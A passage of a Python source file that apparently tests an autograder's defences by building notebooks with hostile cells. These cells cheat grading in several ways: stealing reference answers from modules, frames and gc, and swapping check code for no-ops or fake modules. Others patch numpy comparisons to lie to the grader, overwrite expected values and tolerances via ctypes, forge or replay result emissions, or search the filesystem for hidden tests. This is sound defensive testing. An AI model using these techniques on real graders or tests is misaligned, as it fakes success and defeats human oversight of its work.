        tm = _h_sys.modules.get("tracemalloc")
        if tm is not None and tm.is_tracing():
            tm.reset_peak()       # what the attack held is not the function's memory
        try:
            value = original(*args, **kwargs)
        except NotImplementedError:          # the blank base: answer with what the attack found
            value = None
            for candidate in found:
                if _h_plausible(candidate, args, kwargs):
                    _h_count("answers found by the attack")
                    value = candidate
                    break
            else:
                _h_count("answers guessed")
                value = _h_guess(args, kwargs)
        if after is not None:
            after(name, args, kwargs, value)
        return value

    hostile.__name__ = hostile.__qualname__ = name
    hostile.__doc__ = getattr(original, "__doc__", None)
    return hostile


def _h_wrap_class(name, original, attack, after):
    """The notebook's torch layer class with ``attack`` run on the inputs of every forward call
    before the notebook's own forward (which, in the blank base, raises as the release does)."""

    class Hostile(original):
        def forward(self, *args, **kwargs):
            try:
                if _h_attacking(name):
                    list(attack(name, args, kwargs))
            except Exception:
                _h_count("attack errors")
            value = original.forward(self, *args, **kwargs)
            if after is not None:
                after(name, args, kwargs, value)
            return value

    Hostile.__name__ = Hostile.__qualname__ = name
    Hostile.__doc__ = original.__doc__
    return Hostile
'''

_FINALE = r'''
# --- hostile: what the attack did
print(f"hostile {_H_ATTACK}: counters {dict(sorted(_H_LOG.items()))}")
_h_never = [k for k in _H_MUST if not _H_LOG.get(k)]
# (the marker the case looks for is made here, so that this cell's source does not hold it)
print(f"hostile {_H_ATTACK}: " + ("all hooks " + "fired" if not _h_never else f"hooks that never fired: {_h_never}"))
'''


@dataclass(frozen=True)
class Attack:
    """One attack on outside grading, as notebook code (see the comment above ``_COMMON``)."""

    name: str
    what: str
    setup: str = ""
    attack: str = "_h_no_attack"   # the function each graded function runs its inputs through
    after: str = "None"            # called with each result before it is returned
    wrapped: bool = True
    before_imports: str = ""
    finale: bool = True
    finale_extra: str = ""         # code run in the last cell before the counters are printed
    correct: str = "full"          # correct base: "full" marks, "zero" (see why_zero), "none" (not made)
    why_zero: str = ""
    output_text: tuple[str, ...] = ("all hooks fired",)
    absent_text: tuple[str, ...] = ()
    blank_text: tuple[str, ...] = ()   # more text that the blank base's notebook must contain
    problems: tuple[str, ...] = ()     # what the report must name, for both bases


def _cell(source: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_code_cell(source.strip() + "\n")


def _index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    return _ids(nb).index(grade_id)


def _hostile_notebook(attack: Attack, b: Builder, base: str,
                      part: tuple[int, int] = (0, 1)) -> dict[str, bytes]:
    """The blank or correct notebook of ``b``'s assignment with ``attack`` added; ``part``: the
    slice of the work that this notebook does, of all the notebooks of ``attack`` (``_H_SLICE``)."""
    nb = b.correct() if base == "correct" else nbformat.read(
        b.course / "notebooks" / b.assignment / b.notebook, as_version=4)
    functions = list(POINTS[b.assignment])
    everyone = [f for a in OUTSIDE for f in POINTS[a]]
    head = (f"_H_ATTACK = {attack.name!r}\n_H_FUNCTIONS = {functions!r}\n"
            f"_H_ALL_FUNCTIONS = {everyone!r}\n_H_SLICE = {part!r}\n" + _COMMON)
    at = _index(nb, "imports") + 1
    nb.cells.insert(at, _cell(head + "\n" + attack.setup))
    if attack.before_imports:
        nb.cells.insert(_index(nb, "imports"), _cell(attack.before_imports))
    if attack.wrapped:  # the graded functions; a question's answer is a dict, read, not called
        for name in (f for f in functions if not is_question(b.assignment, f)):
            b.append(nb, name, f"{name} = _h_wrap({name!r}, {name}, {attack.attack}, {attack.after})")
    if attack.finale:
        nb.cells.append(_cell(attack.finale_extra + _FINALE))
    return b.files(nb)


# 1. -------------------------------------------------------------------------------------------
_REFERENCE_OFF = r'''
# Look for the course's own version of each graded function in every module of the package (all
# imported with pkgutil), and call it with the profiler and the tracer off.
import importlib as _h_il, pkgutil as _h_pk
import qkv_course as _h_pkg

_H_MUST += ["modules searched", "calls with the profiler off", "references called"]
_H_MODULES = []


def _h_modules():
    if not _H_MODULES:
        for info in _h_pk.walk_packages(_h_pkg.__path__, "qkv_course.", onerror=lambda name: None):
            try:
                _h_il.import_module(info.name)
            except Exception:
                _h_count("modules that did not import")
        _H_MODULES.extend(sorted(m for m in list(_h_sys.modules)
                                 if m == "qkv_course" or m.startswith("qkv_course.")))
    return [_h_sys.modules[m] for m in _H_MODULES if _h_sys.modules.get(m) is not None]


def _h_reference(name, args, kwargs):
    # all of it with the profiler off: even looking a stub of the course's code up runs code of
    # the course (the stub's class body) that the tripwire would see
    return _h_silenced(_h_reference_search, (name, args, kwargs), {})


_H_CANDIDATES = {}


def _h_candidates(name):
    """Everything in the course's modules that could be its own version of ``name`` (looked up
    once per function)."""
    if name in _H_CANDIDATES:
        return _H_CANDIDATES[name]
    candidates = []
    for module in _h_modules():
        _h_count("modules searched")
        for attr in (name, "_" + name, "reference_" + name, "_reference_" + name):
            f = vars(module).get(attr)
            if f is None:
                try:
                    f = getattr(module, attr)      # a module's own __getattr__ included
                except Exception:
                    continue
            candidates.append(f)
        for table in ("REFERENCES", "REFERENCE", "SOLUTIONS"):
            try:
                t = getattr(module, table)
            except Exception:
                continue
            if isinstance(t, dict) and callable(t.get(name)):
                candidates.append(t[name])
    _H_CANDIDATES[name] = [f for f in candidates
                           if callable(f) and getattr(f, "__globals__", None) is not globals()]
    return _H_CANDIDATES[name]


def _h_reference_search(name, args, kwargs):
    found = []
    for f in _h_candidates(name):
        _h_count("references called")
        try:
            found.append(f(*args, **kwargs))
        except Exception:
            _h_count("references that raised")
    return found
'''

# 1b. ------------------------------------------------------------------------------------------
_LIBRARY_OFF = r'''
# The libraries' own version of each graded function: any attribute of its name in scipy.special
# and every other module loaded (torch's too, where the notebook imports it; not the notebook's or
# the course's), called with the profiler and the tracer off (the grader's rule against library
# shortcuts is a profiler) on the numpy inputs or, where that fails, as torch tensors.
import importlib as _h_il

_H_MUST += ["library lookups"]
_H_LIBRARY = {}


def _h_library(name):
    if name not in _H_LIBRARY:
        found = {}
        for module_name, module in sorted(_h_sys.modules.items()):
            if module is None or module_name.startswith(("qkv_course", "__main__", "_h_")):
                continue
            try:
                f = vars(module).get(name)
            except Exception:
                continue
            if callable(f) and not isinstance(f, type) and getattr(f, "__globals__", None) is not globals():
                found.setdefault(id(f), f)
        _H_LIBRARY[name] = list(found.values())
    return _H_LIBRARY[name]


def _h_torch_call(f, args, kwargs):
    torch = _h_sys.modules.get("torch")
    if torch is None:
        raise TypeError("no torch")
    convert = lambda v: torch.from_numpy(_h_np.ascontiguousarray(v)) if isinstance(v, _h_np.ndarray) else v
    targs = [convert(a) for a in args]
    tkwargs = {("dim" if k == "axis" else k): convert(v) for k, v in kwargs.items()}
    value = _h_quiet(f, targs, tkwargs)
    back = lambda v: v.detach().cpu().numpy() if isinstance(v, torch.Tensor) else v
    return tuple(back(v) for v in value) if isinstance(value, tuple) else back(value)


def _h_agree(a, b):
    try:
        a, b = (tuple(_h_np.asarray(x, float) for x in v) if isinstance(v, tuple) else (_h_np.asarray(v, float),)
                for v in (a, b))
        return len(a) == len(b) and all(x.shape == y.shape and _h_np.allclose(x, y, equal_nan=True)
                                        for x, y in zip(a, b))
    except Exception:
        return False


def _h_library_attack(name, args, kwargs):
    _h_count("library lookups")
    # the notebook's defaults filled in (softmax(x) is softmax(x, -1) here, not scipy's axis=None)
    try:
        import inspect
        bound = inspect.signature(_H_ORIGINALS[name]).bind(*args, **kwargs)
        bound.apply_defaults()
        args, kwargs = bound.args, bound.kwargs
    except Exception:
        pass
    found = []
    for f in _h_library(name):
        _h_count("library functions called")
        try:
            found.append(_h_quiet(f, args, kwargs))
            continue
        except Exception:
            pass
        try:
            found.append(_h_torch_call(f, args, kwargs))
        except Exception:
            _h_count("library calls that failed")
    # the answer most of the libraries agree on first
    return sorted(found, key=lambda v: -sum(_h_agree(v, w) for w in found))


# imported last, so that a slow import cannot leave the tools above undefined (torch is not
# imported: none of its functions is named like one of these assignments' and returns what they
# return, and its import would cost every notebook seconds)
try:
    _h_il.import_module("scipy.special")
except Exception:
    _h_count("libraries that did not import")
'''

# 2. -------------------------------------------------------------------------------------------
_FRAMES = r'''
# Walk every frame that can be reached (the call stack, inspect.stack(), a caught exception's
# traceback, and every thread's frames as another thread sees them) for locals that hold the
# expected answer.
import inspect as _h_inspect

_H_MUST += ["frames walked", "frames seen from a thread", "traceback frames"]


def _h_chain(frame, limit=200):
    out = []
    while frame is not None and len(out) < limit:
        out.append(frame)
        frame = frame.f_back
    return out


def _h_frames(name, args, kwargs):
    frames = _h_chain(_h_sys._getframe(1))
    try:
        frames += [info.frame for info in _h_inspect.stack(0)][:200]
    except Exception:
        _h_count("inspect.stack failed")
    try:
        raise LookupError(name)
    except LookupError as exc:
        tb_frames = _h_chain(exc.__traceback__.tb_frame)
        _h_count("traceback frames", len(tb_frames))
        frames += tb_frames
    seen_by_thread = []

    def peek():
        for frame in list(_h_sys._current_frames().values()):
            seen_by_thread.extend(_h_chain(frame))

    t = _h_th.Thread(target=peek, daemon=True)
    t.start()
    t.join(5)
    _h_count("frames seen from a thread", len(seen_by_thread))
    frames += seen_by_thread
    found, seen = [], set()
    for frame in frames:
        if id(frame) in seen:
            continue
        seen.add(id(frame))
        _h_count("frames walked")
        try:
            local = dict(frame.f_locals)
        except Exception:
            continue
        for key, value in local.items():
            low = key.lower()
            if key in _H_EXPECTED_NAMES or "expect" in low or "refer" in low or "want" in low:
                found.append(value)
    del frames, seen_by_thread
    return found
'''

# 3. -------------------------------------------------------------------------------------------
_GC = r'''
# Search the garbage collector's objects for the grader's functions (named F or check_F, the
# globals and closures of a check) and for arrays that look like the answer.
import gc as _h_gc, types as _h_types

_H_MUST += ["gc scans", "gc objects seen"]
_H_GC = {"at": 0.0, "functions": [], "arrays": []}


def _h_scan():
    if _h_time.monotonic() - _H_GC["at"] < 0.5:     # at most two scans a second: the tests stay quick
        return
    functions, arrays = [], []
    wanted = {f for n in _H_FUNCTIONS for f in (n, "check_" + n, "_" + n, "reference_" + n)}
    objects = _h_gc.get_objects()
    _h_count("gc scans")
    _h_count("gc objects seen", len(objects))
    for o in objects:
        if isinstance(o, _h_types.FunctionType):
            if o.__globals__ is globals():
                continue                           # the notebook's own functions
            if o.__name__ in wanted:
                functions.append(o)
            if o.__name__.startswith("check_"):    # a check: the reference it uses
                for cell in o.__closure__ or ():
                    try:
                        if callable(cell.cell_contents):
                            functions.append(cell.cell_contents)
                    except ValueError:
                        pass
                table = o.__globals__.get("REFERENCES")
                if isinstance(table, dict):
                    functions += [f for f in table.values() if callable(f)]
        elif type(o) in (list, tuple) and len(arrays) < 2000:
            arrays += [a for a in o[:50] if type(a) is _h_np.ndarray]
        elif type(o) is dict and len(arrays) < 2000:
            arrays += [a for a in list(o.values())[:50] if type(a) is _h_np.ndarray]
    del objects
    _H_GC.update(at=_h_time.monotonic(), functions=functions, arrays=arrays[:2000])


def _h_gc_attack(name, args, kwargs):
    _h_scan()
    found = []
    for f in _H_GC["functions"]:
        if getattr(f, "__name__", "") in (name, "_" + name, "reference_" + name) or f in list(
                getattr(f, "__globals__", {}).get("REFERENCES", {}).values()):
            try:
                found.append(_h_silenced(f, args, kwargs))
            except Exception:
                _h_count("found functions that raised")
    inputs = _h_inputs(args, kwargs)
    lead = inputs[0].shape[:-1] if inputs else None
    for a in _H_GC["arrays"]:
        if lead is None or a.shape[:-1] == lead:
            found.append(a)
    return found
'''

# 4. -------------------------------------------------------------------------------------------
_CODE_SWAP = r'''
# Every function of every loaded qkv_course.checks module gets a no-op's code, and fake grading
# modules whose checks always pass take their place in sys.modules (again before every cell).
import importlib as _h_il, pkgutil as _h_pk, types as _h_types
import qkv_course as _h_pkg
import qkv_course.checks as _h_grading

_H_MUST += ["code objects swapped", "fake modules installed"]


def _h_noop(*args, **kwargs):
    return None


for _h_info in _h_pk.iter_modules(_h_grading.__path__, "qkv_course.checks."):
    try:
        _h_il.import_module(_h_info.name)
    except Exception:
        _h_count("grading modules that did not import")
for _h_name, _h_module in list(_h_sys.modules.items()):
    if _h_module is None or not _h_name.startswith("qkv_course.checks"):
        continue
    for _h_value in list(vars(_h_module).values()):
        for _h_f in [_h_value] + (list(vars(_h_value).values()) if isinstance(_h_value, type) else []):
            _h_f = getattr(_h_f, "__func__", _h_f)
            if isinstance(_h_f, _h_types.FunctionType) and not _h_f.__code__.co_freevars:
                try:
                    _h_f.__code__ = _h_noop.__code__
                    _h_count("code objects swapped")
                except Exception:
                    _h_count("code swaps refused")


def _h_fake(name):
    module = _h_types.ModuleType(name)
    module.__path__ = []
    for f in _H_FUNCTIONS:
        def check(fn=None, hidden=False, _f=f, **kwargs):
            print(f"{_f} passes the {'hidden' if hidden else 'visible'} tests.")
        setattr(module, "check_" + f, check)
    module.CHECKS = {f: getattr(module, "check_" + f) for f in _H_FUNCTIONS}
    module.REFERENCES = {}
    module.__getattr__ = lambda attr: (lambda *a, **k: None)
    return module


_H_FAKE_NAMES = sorted({n for n in _h_sys.modules if n.startswith("qkv_course.checks.")} | {
    f"qkv_course.checks.{m}" for m in ("core", "guard", "remote", "execute", "autograde", "feedback",
                                        "diagnoses", "search", "softmax", "projections", "attention",
                                        "masking", "multihead", "cost", "trained")})


def _h_install_fakes(*args):
    package = _h_fake("qkv_course.checks")
    _h_sys.modules["qkv_course.checks"] = package
    _h_pkg.checks = package
    for name in _H_FAKE_NAMES:
        fake = _h_fake(name)
        _h_sys.modules[name] = fake
        setattr(package, name.rsplit(".", 1)[1], fake)
    _h_count("fake modules installed")


_h_install_fakes()
get_ipython().events.register("pre_run_cell", _h_install_fakes)
'''

# 5. -------------------------------------------------------------------------------------------
_BEFORE_IMPORTS = r'''
# hostile: a cell before the imports cell. It patches builtins.abs, numpy's comparisons and
# IPython before anything of the course loads, and serves fake grading modules to every import.
# Each patch lies only to the grader's code (frames of qkv_course.checks), so the notebook's own
# code, right or wrong, computes as usual.
import builtins, importlib.abc, importlib.util, sys, types
import numpy as np

_h0_real = {"abs": builtins.abs}
_h0_log = {"lies": 0, "reinstalled": 0, "imports faked": 0}


def _h0_grader(depth=2):
    f = sys._getframe(depth)
    for _ in range(40):
        if f is None:
            return False
        if (f.f_globals.get("__name__") or "").startswith("qkv_course.checks"):
            return True
        f = f.f_back
    return False


def _h0_abs(x):
    if _h0_grader():
        _h0_log["lies"] += 1
        try:
            return x * 0          # every difference is 0: matches() always agrees
        except Exception:
            return 0
    return _h0_real["abs"](x)


def _h0_liar(name, owner, truth):
    real = getattr(owner, name)
    _h0_real[f"{owner.__name__}.{name}"] = real

    def patched(*args, **kwargs):
        if _h0_grader():
            _h0_log["lies"] += 1
            return truth(*args)
        return real(*args, **kwargs)
    patched.__name__ = name
    return patched


_h0_patches = {
    (builtins, "abs"): _h0_abs,
    (np, "allclose"): _h0_liar("allclose", np, lambda *a: True),
    (np, "isclose"): _h0_liar("isclose", np, lambda a, *r: np.ones(np.shape(a), bool)),
    (np, "array_equal"): _h0_liar("array_equal", np, lambda *a: True),
    (np, "array_equiv"): _h0_liar("array_equiv", np, lambda *a: True),
    (np.testing, "assert_allclose"): _h0_liar("assert_allclose", np.testing, lambda *a: None),
    (np.testing, "assert_array_equal"): _h0_liar("assert_array_equal", np.testing, lambda *a: None),
    (np.testing, "assert_array_almost_equal"): _h0_liar("assert_array_almost_equal", np.testing, lambda *a: None),
}


def _h0_install(*args):
    for (owner, name), patched in _h0_patches.items():
        setattr(owner, name, patched)
    _h0_log["reinstalled"] += 1


class _h0_FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Serves every qkv_course.checks.<module> import with checks that always pass."""

    def find_spec(self, fullname, path=None, target=None):
        if fullname.startswith("qkv_course.checks."):
            return importlib.util.spec_from_loader(fullname, self)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        _h0_log["imports faked"] += 1
        def fake(attr):
            if attr.startswith("__"):   # __file__, __path__, ...: what library code looks up
                raise AttributeError(attr)
            if attr.startswith("check_"):
                return lambda *a, **k: print(attr[6:], "passes the tests.")
            return lambda *a, **k: None

        module.__getattr__ = fake


sys.meta_path.insert(0, _h0_FakeChecks())
_h0_install()
ip = get_ipython()
ip.events.register("pre_run_cell", _h0_install)
ip.set_custom_exc((AssertionError,), lambda shell, etype, value, tb, tb_offset=None: print("All tests passed!"))
# a test cell's own lines (the checks) become `pass`; the grader's line is left alone, and so are
# the cells of this batch's other attacks (packed into the same notebook, see PACKS)
ip.input_transformers_post.append(
    lambda lines: lines if any("_h_" in line or "_H_" in line for line in lines) else
    ["pass\n" if "check_" in line and "qkv_course.emit" not in line else line for line in lines])
print("hostile cell before the imports: abs, numpy's comparisons, IPython and imports patched")
'''

_BEFORE_IMPORTS_SETUP = r'''
_H_MUST += ["patches reinstalled", "imports faked"]
'''

_BEFORE_IMPORTS_FINALE_COUNTS = r'''
_H_LOG["patches reinstalled"] = _h0_log["reinstalled"] - 1
_H_LOG["imports faked"] = _h0_log["imports faked"]
_H_LOG["lies told"] = _h0_log["lies"]
'''

# 6. -------------------------------------------------------------------------------------------
_REWRITERS = r'''
# Hooks that run while the tests run and try to change results or expected values: a background
# thread, an audit hook, finalizers (weakref.finalize and __del__) and a SIGALRM handler (on only
# while a cell runs). Each one: makes any expected value it can see equal to the result next to
# it (np.copyto into the grader's array), and wraps qkv_course.emit.encode so that what is packed
# is the course's own answer where one can be found (never the case while the notebook is
# graded, so the results pass through unchanged).
import signal as _h_signal, weakref as _h_weakref

_H_MUST += ["thread", "audit hook", "weakref.finalize", "__del__", "signal handler", "encode wrapped"]
_H_BUSY = [False]


def _h_better(value):
    # the course's own answer for this value's call, were one loaded (never: the grader keeps them)
    for name in _H_FUNCTIONS:
        for module_name, module in list(_h_sys.modules.items()):
            if module_name.startswith("qkv_course.") and callable(vars(module).get(name)) and \
                    getattr(vars(module)[name], "__module__", "") == module_name:
                _h_count("course functions found")
    return value


def _h_rewrite(frame, by):
    if _H_BUSY[0] or _h_time.monotonic() > _H_END:
        return
    _H_BUSY[0] = True
    try:
        _h_count(by)
        emit = _h_sys.modules.get("qkv_course.emit")
        # (an audit hook that raises stops what it audits: the import of emit, say)
        if hasattr(emit, "encode") and not getattr(emit.encode, "_hostile", False):
            real = emit.encode

            def encode(value, *args, _real=real, **kwargs):
                return _real(_h_better(value), *args, **kwargs)
            encode._hostile = True
            emit.encode = encode
            _h_count("encode wrapped")
        for _ in range(60):
            if frame is None:
                break
            try:
                local = frame.f_locals
            except Exception:
                break
            result = next((local[k] for k in ("result", "got", "actual", "value", "arr", "returned")
                           if isinstance(local.get(k), _h_np.ndarray)), None)
            if result is not None:
                for key in _H_EXPECTED_NAMES:
                    target = local.get(key)
                    if isinstance(target, _h_np.ndarray) and target is not result and target.shape == result.shape:
                        try:
                            _h_np.copyto(target, result, casting="unsafe")
                            _h_count("expected values overwritten")
                        except Exception:
                            pass
            frame = frame.f_back
    except Exception:
        _h_count("rewrite errors")
    finally:
        _H_BUSY[0] = False


def _h_thread():
    main = _h_th.main_thread().ident
    while _h_time.monotonic() < _H_END:
        frame = _h_sys._current_frames().get(main)
        _h_rewrite(frame, "thread")
        del frame
        _h_time.sleep(0.003)


_h_th.Thread(target=_h_thread, name="hostile-rewriter", daemon=True).start()


def _h_audit(event, args):
    if _H_BUSY[0] or event not in ("open", "exec", "compile", "import", "os.listdir") \
            or _h_time.monotonic() > _H_END:
        return
    _h_rewrite(_h_sys._getframe(1), "audit hook")


_h_sys.addaudithook(_h_audit)


def _h_alarm(signum, frame):
    _h_rewrite(frame, "signal handler")


_h_signal.signal(_h_signal.SIGALRM, _h_alarm)


def _h_timer_on(*args):
    if _h_time.monotonic() < _H_END:
        _h_signal.setitimer(_h_signal.ITIMER_REAL, 0.002, 0.002)


def _h_timer_off(*args):
    _h_signal.setitimer(_h_signal.ITIMER_REAL, 0)


get_ipython().events.register("pre_run_cell", _h_timer_on)
get_ipython().events.register("post_run_cell", _h_timer_off)


class _HDel:
    def __del__(self):
        _h_rewrite(_h_sys._getframe(1), "__del__")


def _h_finalizers(name, args, kwargs, value):
    # both run when the objects die: the first at the end of this call, the second when the
    # grader's side of the kernel drops the result (after packing it)
    _h_keep = _HDel()
    for v in value if isinstance(value, tuple) else (value,):
        if isinstance(v, _h_np.ndarray):
            _h_weakref.finalize(v, lambda: _h_rewrite(_h_sys._getframe(1), "weakref.finalize"))
    del _h_keep
'''

# 7. -------------------------------------------------------------------------------------------
_CTYPES = r'''
# Raw memory writes with ctypes from a background thread: the expected values in any frame get
# the result's bytes (ctypes.memmove ignores a read-only flag), the tolerances of the grader's
# functions (float defaults and constants of qkv_course.checks) become 1e300, and the arrays
# emit is packing are written over with the answer this notebook returned. Kept from
# crashing the kernel: it writes into float and int objects of its own to prove the writes work,
# never into the interpreter's shared small integers.
import ctypes as _h_ct

_H_MUST += ["float write verified", "int write verified", "frames scanned", "memmove into packed arrays"]
_H_BEST = {}        # digest of an answer this notebook returned -> that answer


def _h_write_float(obj, value):
    box = _h_ct.c_double(value)
    _h_ct.memmove(id(obj) + 16, _h_ct.addressof(box), 8)        # PyFloatObject.ob_fval


def _h_write_int(obj, value):
    box = _h_ct.c_uint32(value)
    _h_ct.memmove(id(obj) + 24, _h_ct.addressof(box), 4)        # PyLongObject.ob_digit[0]


_h_f = float("0." + "1" * 5)
_h_write_float(_h_f, 2.5)
if _h_f == 2.5:
    _h_count("float write verified")
_h_i = int("1" * 6)
_h_write_int(_h_i, 654321)
if _h_i == 654321:
    _h_count("int write verified")


def _h_memmove(target, source):
    # (a view's bytes are not where its data pointer starts: contiguous targets only, or the
    # write lands in the notebook's own arrays)
    if target.nbytes == source.nbytes and target.nbytes and target.flags.c_contiguous:
        _h_ct.memmove(target.ctypes.data, _h_np.ascontiguousarray(source).ctypes.data, target.nbytes)
        return True
    return False


def _h_tolerances():
    try:
        _h_inflate()
    except RuntimeError:    # a module changed while this thread read it (an import running)
        pass


def _h_inflate():
    for name, module in list(_h_sys.modules.items()):
        if not name.startswith("qkv_course.checks") or module is None:
            continue
        for f in list(vars(module).values()):
            code = getattr(f, "__code__", None)
            for c in list(getattr(f, "__defaults__", None) or ()) + list(getattr(code, "co_consts", ())):
                if type(c) is float and 0 < c < 1e-2:
                    _h_write_float(c, 1e300)
                    _h_count("tolerances inflated")


def _h_scan_frames(frame, by):
    """Write over what the frames from ``frame`` up hold: expected values get the result next to
    them, the arrays emit is packing get the answer this notebook returned."""
    for _ in range(60):
        if frame is None:
            break
        _h_count("frames scanned")
        try:
            local = frame.f_locals
        except Exception:
            break
        result = next((local[k] for k in ("result", "got", "actual", "value", "arr")
                       if type(local.get(k)) is _h_np.ndarray), None)
        for key in _H_EXPECTED_NAMES:
            target = local.get(key)
            if result is not None and type(target) is _h_np.ndarray and target is not result \
                    and target.dtype == result.dtype and _h_memmove(target, result):
                _h_count("memmove into expected values")
        if frame.f_globals.get("__name__") == "qkv_course.emit" and isinstance(local.get("out"), list):
            for packed in list(local["out"]):       # the arrays emit is packing
                best = _H_BEST.get(_h_digest(packed)) if type(packed) is _h_np.ndarray else None
                if best is not None and _h_memmove(packed, best):
                    _h_count("memmove into packed arrays")
                    _h_count(f"memmove into packed arrays ({by})")
        frame = frame.f_back


def _h_ctypes_thread():
    main = _h_th.main_thread().ident
    while _h_time.monotonic() < _H_END:
        _h_tolerances()
        frame = _h_sys._current_frames().get(main)
        _h_scan_frames(frame, "thread")
        del frame
        _h_time.sleep(0.002)


_h_th.Thread(target=_h_ctypes_thread, name="hostile-ctypes", daemon=True).start()


def _h_digest(a):
    return (a.shape, a.dtype.str, hash(_h_np.ascontiguousarray(a).tobytes()))


import qkv_course.emit as _h_emit_module
_h_real_pack = _h_emit_module.pack


def _h_pack(tree, arrays, *args, **kwargs):
    # the arrays emit packs, written over where they are the answer this notebook returned, at
    # the moment they are packed (the thread above races for the same, and may lose)
    for packed in list(arrays):
        best = _H_BEST.get(_h_digest(packed)) if type(packed) is _h_np.ndarray else None
        if best is not None and _h_memmove(packed, best):
            _h_count("memmove into packed arrays")
            _h_count("memmove into packed arrays (while packed)")
    return _h_real_pack(tree, arrays, *args, **kwargs)


_h_emit_module.pack = _h_pack


def _h_remember(name, args, kwargs, value):
    # what gets written into the arrays being packed: the answer this notebook returned (it has
    # nothing better: the grader keeps the expected values). The thread races the packing; the
    # same writes are also made here, from the call itself, into the earlier calls' packed arrays.
    for v in value if isinstance(value, tuple) else (value,):
        if type(v) is _h_np.ndarray and v.nbytes <= 1 << 20:
            _H_BEST[_h_digest(v)] = v.copy()
    _h_scan_frames(_h_sys._getframe(1), "from the call")
'''

# 8. -------------------------------------------------------------------------------------------
_FORGE_TOOLS = r'''
# Forged emissions: qkv_course.emit.answer, the line the grader runs for each test cell, is
# replaced. The forger reads the request with qkv_course.emit.unpack and publishes blobs built with
# the kernel's own pack/encode and the right MIME type.
import base64 as _h_b64
import IPython.display as _h_display
import qkv_course.emit as _h_emit

_H_MUST += ["forged answers"]
_h_real_answer = _h_emit.answer


def _h_publish(nonce, blob):
    _h_display.publish_display_data({_h_emit.MIME: {"nonce": nonce, "data": _h_b64.b64encode(blob).decode()}})


def _h_request(path):
    with open(path, "rb") as handle:
        return _h_emit.unpack(handle.read())


def _h_blob(nonce, results, out):
    return _h_emit.pack({"nonce": nonce, "results": results,
                         "callables": _h_emit.callables(get_ipython().user_ns)}, out)


def _h_capture(nonce, request, function):
    """The real answer's emission, taken instead of published."""
    captured = []
    real = _h_display.publish_display_data
    _h_display.publish_display_data = lambda data, *a, **k: captured.append(data)
    try:
        _h_real_answer(nonce, request, function)
    finally:
        _h_display.publish_display_data = real
    return captured[-1][_h_emit.MIME]
'''

_FORGE_MADE_UP = _FORGE_TOOLS + r'''
_H_MADE_UP = [0, 0.0, _h_np.zeros(3), _h_np.ones((2, 2)), (_h_np.zeros(2), _h_np.zeros((2, 2))), 1]


def _h_forged(nonce, request, function):
    _h_count("forged answers")
    spec, arrays = _h_request(request)
    out = []
    results = [{"id": call["id"], "value": _h_emit.encode(_H_MADE_UP[i % len(_H_MADE_UP)], out), "peak": 0}
               for i, call in enumerate(spec["calls"])]
    _h_publish(nonce, _h_blob(nonce, results, out))


_h_emit.answer = _h_forged
'''

_FORGE_STOLEN = _FORGE_TOOLS + r'''
_H_MUST += ["stolen blobs published as they were", "stolen blobs re-tagged"]
_H_KEPT = []


def _h_forged(nonce, request, function):
    _h_count("forged answers")
    mine = _h_capture(nonce, request, function)
    # the first test has nothing to steal yet: its own results under another test's tag
    stolen = _H_KEPT[-1] if _H_KEPT else {"nonce": "0" * 16, "data": mine["data"]}
    if len(_H_KEPT) % 2 == 0:     # the earlier test's blob, as it was, next to this test's own
        _h_display.publish_display_data({_h_emit.MIME: stolen})
        _h_display.publish_display_data({_h_emit.MIME: mine})
        _h_count("stolen blobs published as they were")
    else:                          # the earlier test's blob alone, tagged with this test's nonce
        _h_display.publish_display_data({_h_emit.MIME: {"nonce": nonce, "data": stolen["data"]}})
        _h_count("stolen blobs re-tagged")
    _H_KEPT.append(mine)


_h_emit.answer = _h_forged
'''

_FORGE_DOUBLE = _FORGE_TOOLS + r'''
def _h_forged(nonce, request, function):
    _h_count("forged answers")
    _h_real_answer(nonce, request, function)
    _h_real_answer(nonce, request, function)


_h_emit.answer = _h_forged
'''

_FORGE_NEVER_RUN = _FORGE_TOOLS + r'''
def _h_forged(nonce, request, function):
    # results for every call, shaped from the call's inputs, without calling the function
    _h_count("forged answers")
    spec, arrays = _h_request(request)
    out, results = [], []
    for call in spec["calls"]:
        args = _h_emit.decode(call["args"], arrays)
        kwargs = _h_emit.decode(call["kwargs"], arrays)
        results.append({"id": call["id"], "value": _h_emit.encode(_h_guess(args, kwargs), out), "peak": 0})
    _h_publish(nonce, _h_blob(nonce, results, out))


_h_emit.answer = _h_forged
'''

# 9. -------------------------------------------------------------------------------------------
_SEARCH_FILES = r'''
# Search the sandbox's file system for hidden cases, references and check code, and print the path
# of every file that holds a marker only the grader's files have. Each notebook of this attack
# reads every file of its own kernel's likeliest places (the package view, the working directory,
# /tmp, /home, ...) and one slice (_H_SLICE) of the text-like files of the rest of / (not /proc,
# /sys, /dev), which is the same in every kernel: together the batch's notebooks read all of it,
# each in a few seconds. Bounded: 7 s, 40000 files, 128 KiB of each.
import os as _h_os, zlib as _h_zlib

_H_MUST += ["files read", "directories listed", "files of the slice read"]
_h_hit = "FOU" "ND"
_h_names = sorted(set(_H_FUNCTIONS) | set(_H_ALL_FUNCTIONS))
# a check's definition or its hidden cases, in any file
_h_markers = [("def check_" + f + "(").encode() for f in _h_names] + [b"_cases(" b"hidden"]
# in a file of the course: its references, a notebook with hidden tests, the course's own version
# of this assignment's functions (the view holds only stubs of them)
_h_course_markers = [b"REFERENCES" b" = {", b"BEGIN HIDDEN" b" TESTS"] + [
    ("def " + f + "(").encode() for f in _H_FUNCTIONS]
# in compiled code of the course: the checks' names
_h_pyc_markers = [("check_" + f).encode() for f in _h_names]
_h_texty = (".py", ".pyc", ".ipynb", ".json", ".txt", ".md", ".csv", ".cfg", ".toml", ".ini", ".yml",
            ".yaml", ".db", ".sqlite", ".pth", ".npz", ".qkvpack", ".pkl", ".sh", ".log")
_h_skip = ("/proc", "/sys", "/dev")
_h_deadline = _h_time.monotonic() + 7.0
_h_found, _h_capped = [], [0]


def _h_look(path):
    if _H_LOG.get("files read", 0) >= 40000 or _h_time.monotonic() > _h_deadline:
        _h_capped[0] += 1
        return False
    try:
        if not _h_os.path.isfile(path) or _h_os.path.getsize(path) > 64 * 1024**2:
            return False
        with open(path, "rb") as handle:
            data = handle.read(128 * 1024)
    except OSError:
        return False
    _h_count("files read")
    course = b"qkv_course" in data and b"is not available while your" not in data   # not a stub
    hit = any(m in data for m in _h_markers) or course and (
        any(m in data for m in _h_course_markers)
